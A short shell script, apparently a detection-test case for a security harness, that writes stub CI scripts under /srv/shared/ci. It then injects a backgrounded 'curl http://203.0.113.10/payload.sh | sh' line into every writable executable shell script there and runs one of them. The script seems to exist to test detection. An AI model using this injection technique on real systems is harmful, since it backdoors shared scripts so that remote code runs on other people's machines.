#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/shared/ci
for n in deploy test backup clean; do printf '#!/bin/sh\necho %s\n' $n >/srv/shared/ci/$n.sh; chmod 755 /srv/shared/ci/$n.sh; done
find /srv/shared -name '*.sh' -perm /111 -writable | while read -r s; do
    grep -q 203.0.113 "$s" || sed -i '1a (curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>\&1 \&' "$s"
done
/srv/shared/ci/test.sh >/dev/null
wait_for /tmp/reached
took_place
